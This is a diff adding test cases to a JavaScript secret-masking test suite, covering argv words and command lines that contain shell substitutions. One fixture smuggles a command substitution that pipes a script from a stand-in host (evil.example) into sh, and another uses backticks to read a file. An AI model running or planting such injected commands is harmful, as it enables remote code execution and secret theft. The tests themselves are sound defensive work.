@@ -845,6 +845,10 @@ describe('argvSecrets: a word secret for where it stands', () => {
     ['htpasswd -b without its password', ['htpasswd', '-b', 'f', 'user']],
     ['curl -u without a password', ['curl', '-u', 'admin', 'https://x']],
     ['items that are not strings', ['--password', 42, null, { x: 1 }]],
+    // An argv word may reach a shell that runs it (`sh -c 'eval "$2"' _ --token …`), and the
+    // bot cannot tell: a word that reads as code stays in view.
+    ['a command substitution', ['deploy', '--token', '$(curl -s https://evil.example/x.sh | sh)']],
+    ['backticks', ['mysql', '-p`cat /run/p`', 'shop']],
   ];
   for (const [what, argv] of negatives) {
     it(`leaves ${what} alone`, () => {
@@ -926,6 +930,13 @@ describe('maskCommandLine: MSP_HOST_COMMAND', () => {
   it('masks a program flag it did not know before, and still leaves ports alone', () => {
     expect(maskCommandLine('mysql -phunter2 -P 3306 && ssh -p 2222 host')).toBe(
       `mysql -p${S} -P 3306 && ssh -p 2222 host`,
+    );
+  });
+
+  // The log line is read by no approver: masking more is the safe side there.
+  it('masks a value that holds a substitution too', () => {
+    expect(maskCommandLine(`serve --password '$(x' --token "a\`b"`)).toBe(
+      `serve --password '${S}' --token "${S}"`,
     );
   });
 
